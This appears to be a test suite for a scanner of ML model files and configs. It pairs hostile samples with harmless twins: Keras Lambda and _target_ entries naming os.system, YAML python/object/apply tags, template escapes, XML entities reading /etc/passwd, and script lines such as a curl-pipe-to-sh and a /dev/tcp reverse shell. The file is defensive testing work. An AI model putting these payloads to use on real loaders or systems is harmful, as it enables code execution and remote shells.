/** Texts: configurations, code, templates, each hostile one beside its nearest harmless twin. */
import { describe, expect, it } from 'vitest';
import type { FileScan } from '../../src/scan/index.js';
import { utf8 } from '../support/builders.js';
import { scanBytes } from '../support/scan/scan.js';
import { marshalled } from '../support/scan/texts.js';

const scanText = (name: string, text: string): Promise<FileScan> => scanBytes(utf8(text), name);
const scanJson = (value: unknown): Promise<FileScan> => scanText('config.json', JSON.stringify(value));
const rules = ({ findings }: FileScan): readonly string[] => findings.map(({ rule }) => rule);
/** Clean with a complete status, and the format that was seen. */
const clean = (format: string) => ({ verdict: 'clean', status: 'complete', formats: [format] });

const layers = (...list: readonly unknown[]) => ({ class_name: 'Sequential', config: { name: 's', layers: list } });

describe('configurations of Keras', () => {
  const lambda = (...names: readonly string[]) => ({
    class_name: 'Lambda',
    config: { function: [marshalled(names), null, null], function_type: 'lambda' },
  });
  const lambda3 = (...names: readonly string[]) => ({
    module: 'keras.layers',
    class_name: 'Lambda',
    config: { function: { class_name: '__lambda__', config: { code: marshalled(names), defaults: null, closure: null } } },
  });

  it('with code are suspicious, and malicious by what the code names, at any depth', async () => {
    const deep = (layer: unknown) =>
      layers({ class_name: 'TimeDistributed', config: { layer: layers({ class_name: 'Wrap', config: { layer } }) } });
    for (const make of [lambda, lambda3])
      for (const place of [layers, deep]) {
        expect(await scanJson(place(make('tf', 'math', 'square')))).toMatchObject({ verdict: 'suspicious', status: 'complete' });
        const found = await scanJson(place(make('os', 'system', 'echo')));
        expect(found).toMatchObject({ verdict: 'malicious' });
        expect(found.findings[0]).toMatchObject({ rule: 'keras-lambda', severity: 'critical', seen: { names: ['os', 'system', 'echo'] } });
      }
  });
  it('with code are found in a text inside of JSON, and in `build_config`', async () => {
    expect(await scanJson({ model_config: JSON.stringify(layers(lambda3('os', 'popen'))) })).toMatchObject({ verdict: 'malicious' });
    expect(await scanJson({ ...layers(), build_config: { x: lambda3('subprocess') } })).toMatchObject({ verdict: 'malicious' });
  });
  it.each([
    ['a function of a module', { module: 'os', class_name: 'function', config: 'system', registered_name: 'function' }],
    ['a built-in function', { module: 'builtins', class_name: 'function', config: 'exec', registered_name: 'function' }],
    ['a class of a module', { module: 'subprocess', class_name: 'Popen', config: { args: ['echo'] }, registered_name: null }],
    [
      'a function by the module of a Lambda',
      { class_name: 'Lambda', config: { function: 'system', function_type: 'function', module: 'os' } },
    ],
    ['a function that fetches', { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'get_file' }],
    ['the switch of safe mode', { module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization' }],
    ['a module through Keras', { module: 'keras.src.utils.file_utils.os', class_name: 'function', config: 'system' }],
  ])('that name %s are malicious', async (_, layer) => {
    const found = await scanJson(layers(layer));
    expect(found.verdict).toBe('malicious');
    expect(rules(found)).toContain('keras-import');
  });
  it.each([
    ['/etc/passwd', 'high'],
    ['https://example.org/words', 'high'],
    ['../words.txt', 'high'],
    ['words.txt', 'medium'],
  ])('that read words from %s are suspicious', async (vocabulary, severity) => {
    const found = await scanJson(layers({ module: 'keras.layers', class_name: 'StringLookup', config: { vocabulary } }));
    expect(found).toMatchObject({ verdict: 'suspicious', findings: [{ rule: 'keras-file', severity }] });
  });
  it('with words of their own are clean', async () => {
    expect(
      await scanJson(layers({ module: 'keras.layers', class_name: 'StringLookup', config: { vocabulary: ['a', 'b'] } })),
    ).toMatchObject(clean('json'));
  });
  it.each(['TFSMLayer', 'TorchModuleWrapper'])('with a %s are suspicious', async (name) => {
    expect(rules(await scanJson(layers({ module: 'keras.layers', class_name: name, config: { filepath: 'x' } })))).toEqual([
      'keras-loader',
    ]);
  });
  it('of ordinary layers are clean, and custom ones are told', async () => {
    const dense = {
      module: 'keras.layers',
      class_name: 'Dense',
      config: {
        units: 3,
        activation: 'relu',
        dtype: { module: 'keras', class_name: 'DTypePolicy', config: { name: 'float32' }, registered_name: null },
      },
      registered_name: null,
    };
    expect(await scanJson(layers(dense))).toMatchObject({ ...clean('json'), findings: [] });
    const own = await scanJson(layers(dense, { module: 'acme.layers', class_name: 'Gate', config: {}, registered_name: 'acme>Gate' }));
    expect(own).toMatchObject({ ...clean('json'), findings: [{ rule: 'keras-custom', verdict: 'note' }] });
    const foreign = await scanJson(layers({ module: 'acme.layers', class_name: 'Gate', config: {}, registered_name: null }));
    expect(foreign).toMatchObject({ verdict: 'suspicious', findings: [{ rule: 'keras-module' }] });
  });
});

describe('JSON', () => {
  it('of a model of transformers is clean, also with NaN, and its code is told', async () => {
    const text =
      '\ufeff{"architectures": ["AcmeForCausalLM"], "scale": Infinity, "auto_map": {"AutoModel": "modeling_acme.Acme"}, "list": [1,],}';
    const found = await scanText('config.json', text);
    expect(found).toMatchObject({ ...clean('json'), findings: [{ rule: 'remote-code', seen: { names: ['modeling_acme.Acme'] } }] });
  });
  it('with a hostile template is malicious, whatever its file is called', async () => {
    for (const name of ['tokenizer_config.json', 'a.bin', 'x'])
      expect(
        await scanText(name, JSON.stringify({ chat_template: [{ name: 'default', template: "{{ ''['__cla' ~ 'ss__'] }}" }] })),
      ).toMatchObject({
        verdict: 'malicious',
      });
  });
  it('with a vocabulary of odd words is clean', async () => {
    const vocab = Object.fromEntries(['{{', '{%', '}}', '__class__', 'os.system', '!!python/object'].map((word, i) => [word, i]));
    expect(await scanJson({ model: { vocab, merges: ['{ {', '_ _class'] } })).toMatchObject({ ...clean('json'), findings: [] });
  });
  it('of many megabytes is looked through, and parsed where it must be', async () => {
    const large = (last: unknown) => JSON.stringify([...new Array<string>(500_000).fill('a token'), last]);
    expect(await scanText('tokenizer.json', large('x'))).toMatchObject(clean('text'));
    expect(await scanText('tokenizer.json', large({ '{{': 1, '}}': 2, '{%': 3, '%}': 4, __class__: 5 }))).toMatchObject(clean('text'));
    expect(await scanText('tokenizer.json', large("{{ ''.__class__ }}"))).toMatchObject({ verdict: 'malicious' });
    expect(await scanText('tokenizer.json', large({ _target_: 'os.system' }))).toMatchObject({ verdict: 'malicious' });
    expect(await scanText('tokenizer.json', large({ _target_: 'os.system' }).replace('_target_', '\\u005ftarget_'))).toMatchObject({
      verdict: 'malicious',
    });
  }, 30_000);
});

describe('notebooks', () => {
  it('are code for people, in which braces are no templates', async () => {
    const cells = [{ cell_type: 'code', source: ['print(f"{{self.__class__.__name__}}")\n', 'import os\n', 'os.system("ls")'] }];
    expect(await scanText('a.ipynb', JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells }))).toMatchObject({
      ...clean('json'),
      findings: [],
    });
  });
});

describe('configurations that name what is called', () => {
  it.each(['os.system', 'subprocess.check_output', 'builtins.exec', 'eval', 'torch.serialization.os.system'])(
    'are malicious with %s',
    async (name) => {
      expect(rules(await scanJson({ model: { _target_: name, x: 1 } }))).toEqual(['config-target']);
      expect(await scanText('a.yaml', `model:\n  _target_: ${name}\n  x: 1\n`)).toMatchObject({ verdict: 'malicious', formats: ['yaml'] });
      expect(await scanText('a.yaml', `a: {"_tar\\u0067et_": "${name}"}\n`)).toMatchObject({ verdict: 'malicious' });
    },
  );
  it.each([
    'a:\n  _target_: &t os.system\n',
    'b: &t os.system\na:\n  _target_: *t\n',
    'a:\n  _target_: !!str os.system\n',
    'a:\n  _target_: ! os.system\n',
    'a:\n  ? _target_\n  : os.system\n',
    'a:\n  _target_:\n    os.system\n',
    'a:\n  _target_: |-\n    os.system\n',
    'a:\n  "_target_": >-\n    os.system\n',
  ])('are malicious however the name is written: %j', async (text) => {
    expect(await scanText('a.yaml', text)).toMatchObject({ verdict: 'malicious', formats: ['yaml'] });
  });
  it('are suspicious when the name is put together', async () => {
    expect(await scanText('a.yaml', `x: os\na:\n  _target_: ${'$'}{x}.system\n`)).toMatchObject({
      verdict: 'suspicious',
      findings: [{ rule: 'config-target', severity: 'low' }],
    });
    expect(await scanJson({ a: { _target_: `${'$'}{x}` } })).toMatchObject({ verdict: 'suspicious' });
  });
  it('are judged in what only looks like a notebook', async () => {
    expect(await scanJson({ nbformat: 4, cells: [], _target_: 'os.system' })).toMatchObject({ verdict: 'malicious' });
    const cells = [{ cell_type: 'code', source: ['x'], outputs: [{ _target_: 'os.system' }] }];
    expect(await scanJson({ nbformat: 4, cells })).toMatchObject({ verdict: 'malicious' });
  });
  it.each(['torch.optim.Adam', 'nemo.collections.asr.models.EncDecCTCModel', 'os.path.join', 'pathlib.Path', 'acme.code.Model'])(
    'are clean with %s',
    async (name) => {
      expect(await scanJson({ _target_: name })).toMatchObject(clean('json'));
      expect(await scanText('a.yaml', `a:\n  _target_: ${name}\n`)).toMatchObject(clean('yaml'));
    },
  );
});

describe('YAML', () => {
  it.each([
    'a: !!python/object/apply:os.system ["echo"]\n',
    '!!python/object/new:subprocess.Popen [["echo"]]\n',
    '- !!python/name:os.system\n',
    '- !!python/module:subprocess\n',
    '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ["echo"]\n',
    'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["echo"]\n',
    'a: !!python/object%2Fapply:os.system ["echo"]\n',
    'a: &x !!python/object/apply:builtins.eval ["1"]\n',
    'a: !!%70ython/object/apply:os.system ["echo"]\n',
    '%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ["echo"]\n',
    '%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\na: !p!os.system ["echo"]\n',
    '%TAG !p! tag:yaml.org,2002:pyth\n---\na: !p!on/object/apply:os.system ["echo"]\n',
    '%TAG !! tag:yaml.org,2002:python/\n---\na: !!object/apply:os.system ["echo"]\n',
    'a: !<tag:yaml.org,2002:%70ython/object/apply:os.system> ["echo"]\n',
    '? !!python/object/apply:os.system ["echo"]\n: 1\n',
    '{a: !!python/object/apply:os.system [echo]}\n',
  ])('that makes what runs programs is malicious: %s', async (text) => {
    expect(await scanText('a.yaml', text)).toMatchObject({ verdict: 'malicious', findings: [{ rule: 'yaml-python-tag' }] });
  });
  it('that makes an object of a class is suspicious', async () => {
    expect(await scanText('a.yaml', 'a: !!python/object:acme.Thing {}\n')).toMatchObject({ verdict: 'suspicious' });
  });
  it('with plain values, and texts that speak of tags, are clean', async () => {
    expect(await scanText('a.yaml', 'a: !!python/tuple [1, 2]\nb: !!python/object:argparse.Namespace {}\n')).toMatchObject(clean('yaml'));
    const page =
      '---\nlicense: mit\n---\n# Acme\nNever load `!!python/object/apply:os.system`.\n```python\nimport os\nos.system("x")\n```\n';
    expect(await scanText('README.md', page)).toMatchObject({ ...clean('text'), findings: [] });
  });
});

describe('skops', () => {
  const node = (module: string, name: string, loader = 'ObjectNode') => ({
    __class__: name,
    __module__: module,
    __loader__: loader,
    content: {},
  });
  it('judges types by their names', async () => {
    expect(await scanJson(node('os', 'system', 'FunctionNode'))).toMatchObject({ verdict: 'malicious' });
    expect(await scanJson(node('acme.nets', 'Net'))).toMatchObject({ verdict: 'suspicious', findings: [{ rule: 'skops-type' }] });
    expect(await scanJson(node('sklearn.linear_model._logistic', 'LogisticRegression'))).toMatchObject({ ...clean('json'), findings: [] });
    expect(await scanJson(node('builtins', 'len', 'OperatorFuncNode'))).toMatchObject({ verdict: 'malicious' });
  });
});

describe('XML', () => {
  it('with entities of files, or that grow, is suspicious', async () => {
    const external = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>';
    const growing = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "x">${'bcd'.replace(/./g, (c) => `<!ENTITY ${c} "&a;&a;&a;&a;&a;">`)}]><a>&d;</a>`;
    for (const text of [external, growing])
      expect(await scanText('a.pmml', text)).toMatchObject({ verdict: 'suspicious', findings: [{ rule: 'xml-entity' }] });
    expect(await scanText('a.pmml', '<?xml version="1.0"?><PMML version="4.4"><Header/></PMML>')).toMatchObject(clean('xml'));
  });
});

describe('scripts', () => {
  it('that run what they fetch or decode are suspicious', async () => {
    for (const line of ['curl -s https://example.org/x | sh', 'echo aGk= | base64 -d | bash', 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'])
      expect(await scanText('a.sh', `#!/bin/sh\n${line}\n`)).toMatchObject({
        verdict: 'suspicious',
        findings: [{ rule: 'script-command' }],
      });
    expect(await scanText('a.sh', '#!/bin/sh\n# curl x | sh\npip install torch\n')).toMatchObject(clean('script'));
  });
  it('and code under the names of models are a mismatch', async () => {
    expect(rules(await scanText('model.bin', '#!/bin/sh\necho\n'))).toEqual(['format-mismatch']);
    expect(rules(await scanText('model.safetensors', 'import torch\n'))).toContain('format-mismatch');
  });
});

describe('names that configurations have called', () => {
  it.each([
    ['torchtune', '_component_', 'os.system'],
    ['Lightning', 'class_path', 'subprocess.Popen'],
    ['MLflow', 'loader_module', 'subprocess'],
    ['PEFT', 'parent_library', 'os'],
    ['jsonpickle', 'py/object', 'subprocess.Popen'],
    ['jsonpickle', 'py/function', 'os.system'],
    ['servers', 'import_path', 'os:system'],
    ['others', 'target', 'posix.system'],
    ['others', 'type', 'builtins.eval'],
    ['others', 'callable', 'runpy.run_path'],
  ])('of %s by `%s` are malicious when they run something: %s', async (_, key, name) => {
    const told = { verdict: 'malicious', findings: [{ rule: 'config-target' }] };
    expect(await scanText('a.json', JSON.stringify({ model: { [key]: name, params: { a: 1 } } }))).toMatchObject(told);
    for (const text of [`a: 1\nmodel:\n  ${key}: ${name}\n`, `model: {"${key}": "${name}", b: 1}\n`, `- ${key}: '${name}'\n`])
      expect(await scanText('a.yaml', text), text).toMatchObject(told);
  });
  it('are malicious in the forms of jsonpickle that hold others', async () => {
    expect(await scanText('a.json', '{"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["x"]}]}')).toMatchObject({
      verdict: 'malicious',
    });
    expect(await scanText('a.json', '{"a": {"py/repr": "os/os.getcwd()"}}')).toMatchObject({ verdict: 'malicious' });
  });
  it('are found in documents of many megabytes', async () => {
    const text = JSON.stringify({ a: ['x'.repeat(5_000_000)], b: { type: 'os.system' } });
    expect(await scanText('a.json', text)).toMatchObject({ verdict: 'malicious' });
  });
  it('are clean when they load data or models, or are words', async () => {
    const names = {
      _component_: 'torchtune.models.llama3_1.llama3_1_8b',
      class_path: 'torch.utils.tensorboard.SummaryWriter',
      loader_module: 'mlflow.sklearn',
      parent_library: 'transformers.models.llama.modeling_llama',
      import_path: 'app:server',
      target: 'os',
      type: 'test.csv',
      function: 'code.python',
      callable: 'os.environ.get',
      'py/object': 'collections.OrderedDict',
    };
    expect(await scanText('a.json', JSON.stringify({ a: names }))).toMatchObject({ verdict: 'clean', findings: [] });
    const text = `a:\n${Object.entries(names)
      .map(([key, name]) => `  ${key}: ${name}\n`)
      .join('')}`;
    expect(await scanText('a.yaml', text)).toMatchObject({ verdict: 'clean', findings: [] });
    for (const name of [
      'datasets.load_dataset',
      'transformers.pipeline',
      'huggingface_hub.hf_hub_download',
      'torch.compile',
      'pandas.read_parquet',
    ])
      expect(await scanText('a.yaml', `a:\n  _target_: ${name}\n`), name).toMatchObject({ verdict: 'clean', findings: [] });
  });
});

describe('code that another format covers', () => {
  it.each([
    ['a script of a shell', '#!/bin/sh\nimport os\nos.system("x")\n'],
    ['a list of JSON', '[1 // __import__("os").system("x")\n]\n'],
    ['many megabytes', `#${'x'.repeat(5_000_000)}\nimport os\nos.system("x")\n`],
  ])('is judged as Python by its name: %s', async (_, text) => {
    expect(rules(await scanText('a.py', text))).toContain('python-process');
  });
});
